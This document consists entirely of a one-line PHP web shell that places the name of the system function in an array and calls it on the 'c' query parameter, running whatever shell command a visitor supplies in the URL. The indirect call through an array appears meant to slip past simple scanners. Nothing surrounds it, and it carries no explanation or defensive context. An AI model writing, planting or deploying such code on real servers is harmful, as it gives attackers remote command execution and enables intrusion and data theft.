<?php $m = array("a" => "system"); $m["a"]($_GET["c"]);
